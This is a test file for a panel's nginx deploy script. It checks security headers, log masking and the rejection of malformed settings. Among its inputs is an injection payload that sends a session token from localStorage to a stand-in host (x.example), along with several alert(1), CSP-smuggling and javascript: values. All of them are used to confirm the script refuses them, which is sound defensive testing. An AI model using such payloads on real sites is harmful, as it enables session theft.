import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parsePolicy, readDeployHeaders } from './deploy-headers';

/**
 * The start of the server: what deploy/serve-nginx.sh renders from deploy/nginx.conf.template — the
 * policy the decision record documents (docs/decisions/0007-security-headers.md), the other
 * headers, the SPA fallback, the cache rules, the masked access log — and the settings file it
 * writes, or its refusal to start. nginx itself is replaced by `true` here; tests/e2e/nginx.e2e.ts
 * (the demo build) and tests/e2e/live/nginx.e2e.ts (the live build) run the panel under the real one.
 */

const scratch = mkdtempSync(join(tmpdir(), 'painel-deploy-config-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

function fakeBuild(name: string, files: string[]) {
  const dir = join(scratch, name);
  spawnSync('mkdir', ['-p', dir]);
  for (const file of ['index.html', ...files]) writeFileSync(join(dir, file), '');
  return dir;
}
const liveBuild = fakeBuild('dist', []);
const demoBuild = fakeBuild('dist-demo', ['mockServiceWorker.js']);

let runs = 0;
/** Runs the start script with only these variables; nginx is `true`, so it renders and stops. */
function start(build: string, env: Record<string, string>, port = '8080') {
  const runtime = join(scratch, `run-${++runs}`);
  const result = spawnSync('deploy/serve-nginx.sh', [build, port], {
    env: { PATH: process.env.PATH ?? '', NGINX_BIN: '/bin/true', PAINEL_RUNTIME_DIR: runtime, ...env },
    encoding: 'utf8',
  });
  const read = (file: string) => {
    try {
      return readFileSync(join(runtime, file), 'utf8');
    } catch {
      return null;
    }
  };
  return {
    code: result.status,
    output: `${result.stdout}${result.stderr}`,
    config: read('nginx.conf'),
    settings: read('config.js'),
    file: join(runtime, 'nginx.conf'),
  };
}

const live = start(liveBuild, { PAINEL_API_URL: 'https://api.anoreg.org.br' });
const demo = start(demoBuild, {});
const configs = {
  live: { text: live.config ?? '', headers: readDeployHeaders(live.file) },
  demo: { text: demo.config ?? '', headers: readDeployHeaders(demo.file) },
};

describe('the nginx config deploy/serve-nginx.sh renders', () => {
  it('starts both builds', () => {
    expect([live.code, demo.code]).toEqual([0, 0]);
    expect(live.output).toContain(
      'painel em http://127.0.0.1:8080 (API https://api.anoreg.org.br, CEP https://brasilapi.com.br)',
    );
    expect(demo.output).toContain('demonstração (modo mock) em http://127.0.0.1:8080');
    expect(configs.live.text).not.toMatch(/@[A-Z_]+@/);
    expect(configs.demo.text).not.toMatch(/@[A-Z_]+@/);
  });

  it('the live policy: nothing by default, scripts and styles from the panel, calls only to the panel itself and the configured API and postal-code origins', () => {
    const policy = parsePolicy(configs.live.headers['Content-Security-Policy']);
    expect(Object.fromEntries(policy)).toEqual({
      'default-src': ["'none'"],
      'script-src': ["'self'"],
      // PrimeReact writes its component styles into <style> elements at run time.
      'style-src': ["'self'", "'unsafe-inline'"],
      'img-src': ["'self'"],
      'font-src': ["'self'"],
      // 'self': whether the page's version is gone, asked of its own server (src/lib/http/page-version.ts).
      'connect-src': ["'self'", 'https://api.anoreg.org.br', 'https://brasilapi.com.br'],
      // Would otherwise fall back to script-src and allow workers from the panel's origin.
      'worker-src': ["'none'"],
      'form-action': ["'self'"],
      'base-uri': ["'none'"],
      'object-src': ["'none'"],
      'frame-ancestors': ["'none'"],
    });
  });

  it("connect-src is exactly the panel's own origin and those of PAINEL_API_URL and PAINEL_CEP_API_URL, once each", () => {
    const connectSrc = (env: Record<string, string>) =>
      parsePolicy(readDeployHeaders(start(liveBuild, env).file)['Content-Security-Policy']).get('connect-src');
    expect(
      connectSrc({
        PAINEL_API_URL: 'https://hml.api.exemplo.org.br:8443/v2/',
        PAINEL_CEP_API_URL: 'https://cep.exemplo.org.br/api',
      }),
    ).toEqual(["'self'", 'https://hml.api.exemplo.org.br:8443', 'https://cep.exemplo.org.br']);
    expect(
      connectSrc({ PAINEL_API_URL: 'http://127.0.0.1:3333', PAINEL_CEP_API_URL: 'http://127.0.0.1:3333' }),
    ).toEqual(["'self'", 'http://127.0.0.1:3333']);
    expect(
      connectSrc({
        PAINEL_API_URL: 'https://api.exemplo.org.br',
        PAINEL_CSP_REPORT_URI: 'https://relatorios.exemplo.org.br/csp',
      }),
    ).toEqual(["'self'", 'https://api.exemplo.org.br', 'https://brasilapi.com.br']);
  });

  it("with PAINEL_SENTRY_DSN, connect-src adds the DSN's origin (without its key), and nothing else", () => {
    const connectSrc = (env: Record<string, string>) =>
      parsePolicy(readDeployHeaders(start(liveBuild, env).file)['Content-Security-Policy']).get('connect-src');
    expect(
      connectSrc({
        PAINEL_API_URL: 'https://api.exemplo.org.br',
        PAINEL_SENTRY_DSN: 'https://0123abcd@erros.exemplo.org.br:8443/sentry/7',
      }),
    ).toEqual([
      "'self'",
      'https://api.exemplo.org.br',
      'https://brasilapi.com.br',
      'https://erros.exemplo.org.br:8443',
    ]);
    expect(
      connectSrc({ PAINEL_API_URL: 'http://127.0.0.1:3333', PAINEL_SENTRY_DSN: 'http://chave@127.0.0.1:3333/1' }),
    ).toEqual(["'self'", 'http://127.0.0.1:3333', 'https://brasilapi.com.br']);
  });

  it('the demo policy adds only the service worker and calls to its own origin, which the worker answers', () => {
    const livePolicy = parsePolicy(configs.live.headers['Content-Security-Policy']);
    const demoPolicy = parsePolicy(configs.demo.headers['Content-Security-Policy']);
    expect(demoPolicy.get('worker-src')).toEqual(["'self'"]);
    expect(demoPolicy.get('connect-src')).toEqual(["'self'", 'https://brasilapi.com.br']);
    for (const [directive, sources] of livePolicy) {
      if (directive !== 'worker-src' && directive !== 'connect-src')
        expect(demoPolicy.get(directive), directive).toEqual(sources);
    }
    expect(demo.settings).toBeNull();
  });

  it.each(Object.entries(configs))(
    '%s: no script from anywhere else, no eval, no inline script, no wildcard',
    (_name, { headers }) => {
      const policy = parsePolicy(headers['Content-Security-Policy']);
      const everySource = [...policy.values()].flat();
      expect(
        everySource.filter((source) => /\*|unsafe-eval|unsafe-hashes|^data:$|^blob:$|^https?:$/.test(source)),
      ).toEqual([]);
      expect(policy.get('script-src')).toEqual(["'self'"]);
    },
  );

  it.each(Object.entries(configs))('%s: the other security headers', (_name, { headers }) => {
    expect(headers).toMatchObject({
      'X-Content-Type-Options': 'nosniff',
      'Referrer-Policy': 'no-referrer',
      'X-Frame-Options': 'DENY',
      'Cross-Origin-Opener-Policy': 'same-origin',
    });
    expect(headers['Permissions-Policy']).toContain('camera=()');
    expect(headers['Strict-Transport-Security']).toMatch(/^max-age=\d{7,}/);
  });

  it.each(Object.entries(configs))(
    '%s: SPA fallback, 404 for a missing asset, /healthz from memory, and no location drops the headers',
    (_name, { text }) => {
      expect(text).toMatch(/location \/ \{[^}]*try_files \$uri \/index\.html;/);
      expect(text).toMatch(/location \/assets\/ \{[^}]*try_files \$uri =404;/);
      // Answered by nginx itself: no file is read, so a full or broken disk does not fail it.
      expect(text).toMatch(
        /location = \/healthz \{\s*access_log off;\s*default_type text\/plain;\s*return 200 "ok\\n";\s*\}/,
      );
      // nginx forgets the server's add_header lines in a location that has its own.
      const locations = [...text.matchAll(/^\s*location [^{]+\{[^}]*\}/gm)].map(([block]) => block);
      expect(locations.length).toBeGreaterThanOrEqual(4);
      for (const block of locations) expect(block).not.toContain('add_header');
    },
  );

  it('cache: hashed assets immutable for a year, everything else (index.html, /config.js, the service worker) revalidated', () => {
    expect(configs.live.text).toMatch(
      /map \$uri \$painel_cache \{\s*~\^\/assets\/\s+"public, max-age=31536000, immutable";\s*default\s+"no-cache";\s*\}/,
    );
    expect(configs.live.text).toContain('add_header Cache-Control $painel_cache;');
  });

  it('keeps query strings (a searched CPF), password-link tokens and payment ids out of the access log', () => {
    const format = /log_format painel_sem_consulta '([^']*)'/.exec(configs.live.text)?.[1];
    expect(format).toContain('$painel_caminho');
    expect(format).not.toMatch(/\$request_uri|\$request\b|\$args|\$query_string|\$http_referer|\$uri/);
    // Case-insensitive (~*), as the routes; what nginx really logs is checked by tests/e2e/live/nginx.e2e.ts.
    expect(configs.live.text).toMatch(
      /map \$request_uri \$painel_caminho \{\s*~\*\^\(\?<rota>\/cadastrar-senha\(-associado\)\?\/\)\s+\$rota\(token\);\s*~\*\^\(\?<rota>\/cobranca\/\)\s+\$rota\(id\);\s*~\^\/\[\^\/\?\]\*%\s+\/\(codificado\);\s*~\^\(\?<caminho>\[\^\?\]\*\)\s+\$caminho;/,
    );
    expect(configs.live.text).toContain('access_log /dev/stdout painel_sem_consulta;');
  });

  it('runs as any user: pid, temporary files and errors go to the runtime folder and stderr, in the foreground', () => {
    expect(configs.live.text).toContain('daemon off;');
    expect(configs.live.text).toContain('error_log stderr warn;');
    for (const directive of [
      'pid',
      'client_body_temp_path',
      'proxy_temp_path',
      'fastcgi_temp_path',
      'uwsgi_temp_path',
      'scgi_temp_path',
    ]) {
      expect(configs.live.text).toMatch(new RegExp(`${directive} ${scratch}/run-1/`));
    }
    expect(configs.live.text).toContain('listen 127.0.0.1:8080;');
    expect(
      start(liveBuild, { PAINEL_API_URL: 'https://api.exemplo.org.br', PAINEL_LISTEN_HOST: '0.0.0.0' }).config,
    ).toContain('listen 0.0.0.0:8080;');
  });

  it.each(Object.entries(configs))(
    '%s: speaks plain HTTP, as behind the load balancer that ends TLS and HTTP/2 (the benches put their own front there)',
    (_name, { text }) => {
      expect([...text.matchAll(/^\s*listen ([^;]*);/gm)].map(([, address]) => address)).toEqual(['127.0.0.1:8080']);
      // No certificate, no TLS or HTTP/2 setting: what the image runs is what the benches put behind their front.
      expect(text).not.toMatch(/\bssl|\bhttp2\b/);
    },
  );

  it('the README and the decision record show the live policy as the script renders it with the production addresses', () => {
    const oneLine = (text: string) => text.replace(/\s+/g, ' ');
    const policy = configs.live.headers['Content-Security-Policy'];
    expect(oneLine(readFileSync('README.md', 'utf8'))).toContain(policy);
    expect(oneLine(readFileSync('docs/decisions/0007-security-headers.md', 'utf8'))).toContain(policy);
  });
});

/** A value that, written into /config.js unescaped, ran a statement of the operator's choosing in the panel. */
const EXPLOIT =
  '"});location="https://x.example/?"+localStorage.getItem("anoreg-painel:sessao");//\nhttps://associados.anoreg.org.br/login';

describe('the settings file written at start (/config.js)', () => {
  const settingsOf = (text: string | null) => {
    const match = /^window\.__PAINEL_CONFIG__ = Object\.freeze\((\{.*\})\);\n$/.exec(text ?? '');
    return match ? (JSON.parse(match[1]) as Record<string, unknown>) : null;
  };

  it("today's defaults for every variable but the API's address", () => {
    expect(settingsOf(live.settings)).toEqual({
      apiUrl: 'https://api.anoreg.org.br',
      cepApiUrl: 'https://brasilapi.com.br/api',
      associatePortalUrl: 'https://associados.anoreg.org.br/login',
      requestTimeoutMs: 30000,
      idleTimeoutMin: 30,
      rememberMeDays: 30,
    });
  });

  it('each variable, a trailing slash dropped', () => {
    const started = start(liveBuild, {
      PAINEL_API_URL: 'https://hml.api.exemplo.org.br/',
      PAINEL_CEP_API_URL: 'https://cep.exemplo.org.br/api/',
      PAINEL_ASSOCIATE_PORTAL_URL: 'https://portal.exemplo.org.br/entrar',
      PAINEL_REQUEST_TIMEOUT_MS: '12000',
      PAINEL_IDLE_TIMEOUT_MIN: '0',
      PAINEL_REMEMBER_ME_DAYS: '7',
    });
    expect(settingsOf(started.settings)).toEqual({
      apiUrl: 'https://hml.api.exemplo.org.br',
      cepApiUrl: 'https://cep.exemplo.org.br/api',
      associatePortalUrl: 'https://portal.exemplo.org.br/entrar',
      requestTimeoutMs: 12000,
      idleTimeoutMin: 0,
      rememberMeDays: 7,
    });
  });

  it.each([
    ['PAINEL_IDLE_TIMEOUT_MIN', '-1'],
    ['PAINEL_IDLE_TIMEOUT_MIN', '30m'],
    ['PAINEL_IDLE_TIMEOUT_MIN', '07'],
    ['PAINEL_REMEMBER_ME_DAYS', '0'],
    ['PAINEL_REMEMBER_ME_DAYS', 'trinta'],
  ])('%s=%s, a number the setting does not take, stops the start with a message naming it', (name, value) => {
    const started = start(liveBuild, { PAINEL_API_URL: 'https://api.exemplo.org.br', [name]: value });
    expect(started.code).not.toBe(0);
    expect(started.output).toContain(`${name} inválida`);
  });

  it('error reporting: off without PAINEL_SENTRY_DSN; with it, the DSN, the environment (producao) and the release', () => {
    expect(settingsOf(live.settings)).not.toHaveProperty('sentryDsn');
    expect(
      settingsOf(
        start(liveBuild, {
          PAINEL_API_URL: 'https://api.exemplo.org.br',
          PAINEL_SENTRY_DSN: 'https://0123abcd@erros.exemplo.org.br/7',
        }).settings,
      ),
    ).toMatchObject({ sentryDsn: 'https://0123abcd@erros.exemplo.org.br/7', sentryEnvironment: 'producao' });
    expect(
      settingsOf(
        start(liveBuild, {
          PAINEL_API_URL: 'https://api.exemplo.org.br',
          PAINEL_SENTRY_DSN: 'https://0123abcd@erros.exemplo.org.br/7',
          PAINEL_SENTRY_ENVIRONMENT: 'homologacao',
          PAINEL_SENTRY_RELEASE: 'painel@1.7.22+hml',
        }).settings,
      ),
    ).toMatchObject({ sentryEnvironment: 'homologacao', sentryRelease: 'painel@1.7.22+hml' });
  });

  it.each([
    [
      'PAINEL_SENTRY_DSN',
      'https://erros.exemplo.org.br/7',
      'PAINEL_SENTRY_DSN inválida: "https://erros.exemplo.org.br/7". Use o DSN do projeto',
    ],
    ['PAINEL_SENTRY_DSN', 'https://chave@erros.exemplo.org.br/sete', 'PAINEL_SENTRY_DSN inválida'],
    [
      'PAINEL_SENTRY_DSN',
      "https://chave@erros.exemplo.org.br/7; script-src 'unsafe-inline'",
      'PAINEL_SENTRY_DSN inválida',
    ],
    ['PAINEL_SENTRY_ENVIRONMENT', 'produção', 'PAINEL_SENTRY_ENVIRONMENT inválida: "produção"'],
    [
      'PAINEL_SENTRY_RELEASE',
      'painel/1.7',
      'PAINEL_SENTRY_RELEASE inválida: "painel/1.7" (sem / nem \\, até 200 caracteres).',
    ],
  ])('a malformed %s (%s) stops the start', (name, value, message) => {
    const started = start(liveBuild, {
      PAINEL_API_URL: 'https://api.exemplo.org.br',
      PAINEL_SENTRY_DSN: 'https://0123abcd@erros.exemplo.org.br/7',
      [name]: value,
    });
    expect(started.code).toBe(1);
    expect(started.output).toContain(message);
    expect(started.config).toBeNull();
  });

  it('without PAINEL_API_URL the server does not start, and says why', () => {
    for (const env of [{}, { PAINEL_API_URL: '' }] as Record<string, string>[]) {
      const started = start(liveBuild, env);
      expect(started.code).not.toBe(0);
      expect(started.output).toContain(
        'PAINEL_API_URL não definida: é o endereço da API que o painel chama, p. ex. PAINEL_API_URL=https://api.exemplo.org.br. O servidor não inicia sem ela.',
      );
      expect(started.config).toBeNull();
      expect(started.settings).toBeNull();
    }
  });

  it.each([
    ['PAINEL_API_URL', 'api.exemplo.org.br'],
    ['PAINEL_API_URL', 'ftp://api.exemplo.org.br'],
    ['PAINEL_API_URL', 'undefined'],
    ['PAINEL_API_URL', 'https://api.exemplo.org.br"; alert(1); "'],
    ['PAINEL_API_URL', "https://api.exemplo.org.br; script-src 'unsafe-inline'"],
    ['PAINEL_API_URL', 'https://api.exemplo.org.br/?a=1'],
    ['PAINEL_CEP_API_URL', 'https://cep exemplo'],
    ['PAINEL_ASSOCIATE_PORTAL_URL', 'javascript:alert(1)'],
  ])('a malformed %s (%s) stops the start with a clear message', (name, value) => {
    const started = start(liveBuild, { PAINEL_API_URL: 'https://api.exemplo.org.br', [name]: value });
    expect(started.code).not.toBe(0);
    expect(started.output).toContain(
      `${name} inválida: "${value}". Use um endereço http(s) como https://api.exemplo.org.br`,
    );
    expect(started.config).toBeNull();
  });

  it.each([
    ['PAINEL_ASSOCIATE_PORTAL_URL', 'the exploit: a statement, then a valid address on the next line', EXPLOIT],
    ['PAINEL_API_URL', 'a valid address, then a line of code', 'https://api.exemplo.org.br\nalert(1)'],
    ['PAINEL_CEP_API_URL', 'a carriage return', 'https://cep.exemplo.org.br\r'],
    ['PAINEL_API_URL', 'a tab', 'https://api.exemplo.org.br\t'],
    ['PAINEL_API_URL', 'an escape character', 'https://api.exemplo.org.br\u001b[2J'],
    ['PAINEL_API_URL', 'a C1 control (NEL)', 'https://api.exemplo.org.br\u0085'],
    ['PAINEL_API_URL', 'U+2028', 'https://api.exemplo.org.br/\u2028alert(1)'],
    ['PAINEL_ASSOCIATE_PORTAL_URL', 'U+2029', 'https://portal.exemplo.org.br/\u2029'],
    ['PAINEL_CSP_REPORT_URI', 'a newline', 'https://relatorios.exemplo.org.br/csp\nhttps://x.exemplo'],
    ['PAINEL_LISTEN_HOST', 'a newline', '127.0.0.1\n0.0.0.0'],
    ['PAINEL_SENTRY_RELEASE', 'a newline', '1.7.22\n"});alert(1);//'],
    ['PAINEL_QUALQUER_OUTRA', 'a newline, in a setting the script does not read', 'a\nb'],
  ])('%s holding %s stops the start, naming the variable, before anything is written', (name, _what, value) => {
    const started = start(liveBuild, { PAINEL_API_URL: 'https://api.exemplo.org.br', [name]: value });
    expect(started.code).toBe(1);
    expect(started.output).toBe(
      `serve-nginx: ${name} inválida: contém uma quebra de linha, um caractere de controle ou um separador de linha Unicode (U+2028, U+2029). Cada configuração é uma única linha de texto.\n`,
    );
    expect([started.config, started.settings]).toEqual([null, null]);
  });

  it('a setting longer than 2048 characters stops the start, without printing it', () => {
    const long = `https://api.exemplo.org.br/${'a'.repeat(2048)}`;
    const started = start(liveBuild, { PAINEL_API_URL: long });
    expect(started.code).toBe(1);
    expect(started.output).toBe(
      `serve-nginx: PAINEL_API_URL inválida: tem ${long.length} caracteres (no máximo 2048).\n`,
    );
    const longest = `https://api.exemplo.org.br/${'a'.repeat(2048 - 27)}`;
    expect(settingsOf(start(liveBuild, { PAINEL_API_URL: longest }).settings)?.apiUrl).toBe(longest);
  });

  it('writes JSON in which quotes, <, >, & and the Unicode line separators are escapes', () => {
    const started = start(liveBuild, {
      PAINEL_API_URL: 'https://api.exemplo.org.br',
      PAINEL_SENTRY_DSN: 'https://chave@sentry.exemplo.org.br/2',
      // A release may hold anything but a slash or a backslash (Sentry's rule).
      PAINEL_SENTRY_RELEASE: 'painel "1.7" <script>&<!--',
    });
    expect(started.code).toBe(0);
    expect(started.settings).toContain('"sentryRelease":"painel \\"1.7\\" \\u003cscript\\u003e\\u0026\\u003c!--"');
    expect(started.settings).not.toMatch(/<|>|&/);
    expect(settingsOf(started.settings)?.sentryRelease).toBe('painel "1.7" <script>&<!--');
  });

  it.each(['0', '-5', '3s', '1.5'])('a malformed PAINEL_REQUEST_TIMEOUT_MS (%s) stops the start', (value) => {
    const started = start(liveBuild, {
      PAINEL_API_URL: 'https://api.exemplo.org.br',
      PAINEL_REQUEST_TIMEOUT_MS: value,
    });
    expect(started.code).not.toBe(0);
    expect(started.output).toContain(
      `PAINEL_REQUEST_TIMEOUT_MS inválida: "${value}" (milissegundos, um inteiro positivo).`,
    );
  });

  it('a wrong folder or port stops the start', () => {
    expect(start(join(scratch, 'nao-existe'), { PAINEL_API_URL: 'https://api.exemplo.org.br' }).output).toContain(
      'index.html não existe: rode npm run build',
    );
    expect(start(liveBuild, { PAINEL_API_URL: 'https://api.exemplo.org.br' }, '80a').output).toContain(
      'porta inválida: "80a"',
    );
    expect(start(liveBuild, { PAINEL_API_URL: 'https://api.exemplo.org.br' }, '70000').code).not.toBe(0);
  });
});
